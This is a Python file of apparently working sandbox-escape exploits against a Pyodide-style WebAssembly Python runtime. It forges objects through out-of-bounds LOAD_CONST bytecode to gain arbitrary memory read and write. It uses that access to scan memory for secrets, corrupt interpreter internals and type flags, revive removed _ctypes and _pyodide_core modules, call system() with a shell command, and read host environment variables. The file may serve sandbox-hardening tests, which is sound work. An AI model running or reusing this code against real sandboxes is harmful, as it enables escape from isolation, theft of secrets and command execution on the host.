"""Code that no compiler makes: an instruction that takes a constant from beyond the constants makes an object of any bytes, and so a window onto all of memory."""

import gc
import re
import struct
import types
from opcode import opmap

SECRET = rb"secret-of-call:[0-9a-f]{32}"
BYTES_HEAD = 16
TUPLE_HEAD = 16
kept = []


def _code_that_loads(index):
    """Bytecode that returns the constant of that index, also where there is none."""
    steps = [(opmap["RESUME"], 0)]
    steps += [(opmap["EXTENDED_ARG"], index >> shift & 0xFF) for shift in (24, 16, 8)]
    steps += [(opmap["LOAD_CONST"], index & 0xFF), (opmap["RETURN_VALUE"], 0)]
    return b"".join(bytes(step) for step in steps)


def _object_at(address):
    """The bytes at that address as a Python object."""
    pointer = struct.pack("<I", address)
    constants = (None, 1)
    kept.append(pointer)
    index = (id(pointer) + BYTES_HEAD - id(constants) - TUPLE_HEAD) // 4 & 0x3FFFFFFF
    code = (lambda: None).__code__.replace(co_code=_code_that_loads(index), co_consts=constants)
    return types.FunctionType(code, {})()


def _memory():
    """A bytearray that begins at zero and has no end."""
    fake = struct.pack("<IIIIIII", 100, id(bytearray), 0x7FFFFFF0, 0x7FFFFFF0, 0, 0, 0)
    kept.append(fake)
    memory = _object_at(id(fake) + BYTES_HEAD)
    kept.append(memory)
    return memory


def _end():
    """As far as memory is in use: reading beyond its end would trap."""
    kept.append([bytes(1000) for _ in range(100)])
    return max(max(map(id, gc.get_objects())), max(map(id, kept[-1])))


def read_memory():
    found = re.search(SECRET, memoryview(_memory())[1024 : _end()])
    return found.group().decode() if found else "nothing"


def write_memory():
    """Small integers are shared by all: 7 becomes 8."""
    memory = _memory()
    place = id(7) + 12
    assert memory[place] == 7
    memory[place] = 8
    return "written"


def write_method():
    """A built-in function is a number in a table of functions; now it is another's."""
    import math

    memory = _memory()
    word = lambda address: int.from_bytes(memory[address : address + 4], "little")
    square_root, cosine = word(id(math.sqrt) + 8), word(id(math.cos) + 8)
    memory[square_root + 4 : square_root + 8] = bytes(memory[cosine + 4 : cosine + 8])
    return "written"


def write_type_flags():
    """That a class cannot be changed is a bit."""
    memory = _memory()
    memory[id(re.Pattern) + 85] &= ~1
    re.Pattern.findall = lambda *_: "left"
    return "written"


def hidden_modules_restored():
    """Names that were taken out of the table of built-in modules are written back, and the module behind `ctypes` is loaded from it."""
    _restore_builtin_modules()
    import _imp
    import sys
    from importlib.machinery import BuiltinImporter, ModuleSpec

    sys.modules.pop("_ctypes", None)
    module = _imp.create_builtin(ModuleSpec("_ctypes", BuiltinImporter))
    _imp.exec_builtin(module)
    command = ("touch '%s'" % HOST["writable"]).encode()
    module.call_function(module.dlsym(module.dlopen(None, 0), "system"), (command,))
    return "ran"


def hidden_bridge_restored():
    """The same for the module behind every proxy."""
    _restore_builtin_modules()
    import _imp
    from importlib.machinery import BuiltinImporter, ModuleSpec

    core = _imp.create_builtin(ModuleSpec("_pyodide_core", BuiltinImporter))
    return core.to_js([]).constructor.constructor("return process.env[%r]" % HOST["variable"])()


def _restore_builtin_modules():
    """Every pointer to the end of such a name, where a table could hold it, becomes one to its beginning."""
    memory = _memory()
    for name in (b"_ctypes", b"_pyodide_core"):
        for start in list(_places(memory, b"\0" + name + b"\0")):
            for place in list(_places(memory, struct.pack("<I", start + 1 + len(name)))):
                if place % 4 == 0:
                    memory[place : place + 4] = struct.pack("<I", start + 1)


def _places(memory, pattern):
    end = _end()
    place = memory.find(pattern, 1024, end)
    while place >= 0:
        yield place
        place = memory.find(pattern, place + 1, end)
